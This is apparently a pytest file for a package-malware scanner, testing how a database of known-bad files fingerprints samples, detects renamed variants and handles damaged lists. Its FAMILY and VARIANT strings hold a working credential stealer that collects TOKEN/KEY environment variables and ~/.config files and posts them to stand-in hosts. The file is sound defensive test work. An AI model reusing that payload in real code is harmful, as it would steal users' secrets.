"""The list of known-bad files: made from samples, brought in, and asked by `scan` and `vet`."""

import json
from pathlib import Path

import pytest

from ostiary.core.exits import Exit
from ostiary.formats.known_files import parse_known_files
from world import build
from world.front import Front, Said
from world.index import FakeIndex

FAMILY = """
import base64, json, os, socket, subprocess, urllib.request

def _gather():
    found = {}
    for name, value in os.environ.items():
        if "TOKEN" in name or "KEY" in name:
            found[name] = value
    for root, folders, files in os.walk(os.path.expanduser("~/.config")):
        for one in files[:20]:
            with open(os.path.join(root, one), "rb") as stream:
                found[one] = base64.b64encode(stream.read(4096)).decode()
    return found

def _send(rows):
    body = json.dumps({"host": socket.gethostname(), "rows": rows}).encode()
    request = urllib.request.Request("https://drop.example.invalid/in", data=body)
    try:
        urllib.request.urlopen(request, timeout=5)
    except OSError:
        subprocess.run(["echo", "later"], check=False)

_send(_gather())
"""
VARIANT = (
    FAMILY.replace("_gather", "_paint")
    .replace("_send", "_blend")
    .replace("found", "shades")
    .replace("drop.example", "cdn.example")
    .replace("20", "99")
    .replace("rows", "palette")
)
HONEST = {
    "thing/__init__.py": "import os, json, socket, subprocess\nfrom .core import a, b, c, d, e, f\n"
    * 30,
    "thing/version.py": '__version__ = "1.0"\n' * 30,
    "thing/core.py": "a = b = c = d = e = f = 1\n",
}


@pytest.fixture
def sample(front: Front) -> str:
    name, data = build.sdist("evil", "1.0", {"evil.py": FAMILY, **HONEST})
    (front.cwd / name).write_bytes(data)
    return f"./{name}"


def bring(front: Front, sample: str, *words: str) -> Said:
    made = front("db", "fingerprint", sample, "--family", "sample family", *words)
    assert made.code == Exit.OK
    (front.cwd / "list.txt").write_text(made.out)
    said = front("db", "update", "--from", "list.txt")
    assert said.code == Exit.OK
    return said


def scan(front: Front, *words: str) -> Said:
    return front("scan", "--format", "json", *words)


def put(front: Front, name: str, text: str) -> str:
    (front.cwd / name).write_text(text)
    return f"./{name}"


def test_a_fingerprint_names_what_is_telling_and_nothing_else(front: Front, sample: str) -> None:
    made = front("db", "fingerprint", sample, "--family", "f", "--source", "us", "--note", "n")
    known = parse_known_files(made.out.encode())
    assert len(known.files) == 2, "the archive and the file that does something"
    assert len(known.shapes) == 1
    assert {(one.family, one.source, one.note) for one in known.files} == {("f", "us", "n")}
    assert sorted(path.name for path in front.cwd.iterdir()) == [Path(sample).name]


def test_the_same_bytes_are_known(front: Front, sample: str) -> None:
    assert "1 sketches of known-bad files, 1 families" in bring(front, sample).out
    said = scan(front, sample)
    assert "the archive itself is known malware of the family `sample family`" in said.message(
        "known-bad-file"
    )
    assert "`evil-1.0/evil.py` is known malware" in said.message("known-bad-file")
    assert "like-known-malware" not in said.checks, "what is known need not be guessed"
    assert said.finding("known-bad-file")["severity"] == "critical"
    assert said.code == Exit.FOUND


def test_a_variant_is_known_by_its_likeness(front: Front, sample: str) -> None:
    bring(front, sample)
    said = scan(front, put(front, "variant.py", VARIANT))
    assert "1 sketches" in said.report["run"]["data_versions"]["known-bad files"]
    assert "known-bad-file" not in said.checks
    assert "of the family `sample family`" in said.message("like-known-malware")
    assert said.finding("like-known-malware")["severity"] == "high"
    assert said.finding("like-known-malware")["confidence"] == "medium"


def test_boilerplate_of_a_sample_accuses_nobody(front: Front, sample: str) -> None:
    bring(front, sample)
    name, data = build.sdist("honest", "1.0", {"honest.py": "X = 1\n", **HONEST})
    (front.cwd / name).write_bytes(data)
    said = scan(front, f"./{name}")
    assert not said.checks & {"known-bad-file", "like-known-malware"}
    states = {said.outcome(one)["state"] for one in ("known-bad-file", "like-known-malware")}
    assert states == {"passed"}


def test_without_a_list_nothing_is_claimed(front: Front) -> None:
    said = scan(front, put(front, "variant.py", VARIANT))
    for check in ("known-bad-file", "like-known-malware"):
        assert said.outcome(check)["state"] == "not-applicable"


def test_a_damaged_list_is_unknown_and_never_empty(
    front: Front, index: FakeIndex, sample: str
) -> None:
    bring(front, sample)
    path = front.folder / "data" / "known-files.jsonl"
    path.write_bytes(path.read_bytes()[:-2])
    said = scan(front, sample)
    index.publish("thing", "1.0", [build.wheel("thing", "1.0")])
    for one in (said, front.vet("thing", "--no-tree")):
        for check in ("known-bad-file", "like-known-malware"):
            assert one.outcome(check)["state"] == "unknown"
            assert "damaged" in one.outcome(check)["reason"]
    assert front("db", "status").code == Exit.INSUFFICIENT


def test_sketches_of_another_version_are_unknown(front: Front, sample: str) -> None:
    made = front("db", "fingerprint", sample, "--family", "f").out
    (front.cwd / "list").write_text(made.replace('"sketch":1', '"sketch":2'))
    said = front("db", "update", "--from", "list")
    assert "its sketches are not used" in said.out
    found = scan(front, sample)
    assert "known-bad-file" in found.checks
    assert found.outcome("like-known-malware")["state"] == "unknown"


def test_vet_asks_the_list_too(front: Front, index: FakeIndex, sample: str) -> None:
    bring(front, sample)
    index.publish("thing", "1.0", [build.wheel("thing", "1.0", {"thing.py": VARIANT})])
    said = front.vet("thing", "--no-tree")
    assert "like-known-malware" in said.checks
    assert "2 digests, 1 sketches" in said.report["run"]["data_versions"]["known-bad files"]
    name, data = build.wheel("thing", "1.1", {"thing.py": FAMILY})
    (front.cwd / name).write_bytes(data)
    assert "known-bad-file" in front.vet(f"./{name}", "--no-tree").checks


def test_a_file_that_could_not_be_had_is_not_unlisted(
    front: Front, index: FakeIndex, sample: str
) -> None:
    bring(front, sample)
    index.publish("thing", "1.0", [build.wheel("thing", "1.0"), build.sdist("thing", "1.0")])
    index.tamper("thing-1.0.tar.gz")
    said = front.vet("thing", "--no-tree")
    assert said.outcome("known-bad-file")["state"] == "unknown"
    assert said.outcome("like-known-malware")["state"] == "unknown"


def test_lists_and_advisories_in_one_call(front: Front, sample: str) -> None:
    made = front("db", "fingerprint", sample).out
    (front.cwd / "known").write_text(made)
    record = {
        "id": "X-1",
        "modified": "2026-01-01T00:00:00Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "a"}, "versions": ["1"]}],
    }
    (front.cwd / "X-1.json").write_text(json.dumps(record))
    said = front("db", "update", "--from", "X-1.json", "known")
    assert "1 advisories" in said.out
    assert "2 digests and 1 sketches" in said.out


def test_nothing_telling_makes_an_empty_list(front: Front) -> None:
    (front.cwd / "plain").mkdir()
    (front.cwd / "plain" / "a.py").write_text("X = 1\n")
    said = front("db", "fingerprint", "plain")
    assert said.code == Exit.FOUND
    assert not parse_known_files(said.out.encode()).files


def test_questions_that_cannot_be_understood(front: Front) -> None:
    assert front("db", "fingerprint").code == Exit.USAGE
    assert front("db", "fingerprint", "nothing.tgz").code == Exit.USAGE
    assert front("db", "status", "x").code == Exit.USAGE
    (front.cwd / "bad").write_text('{"schema": "ostiary/known-files/1"}\n{}\n')
    assert front("db", "update", "--from", "bad").code == Exit.INSUFFICIENT
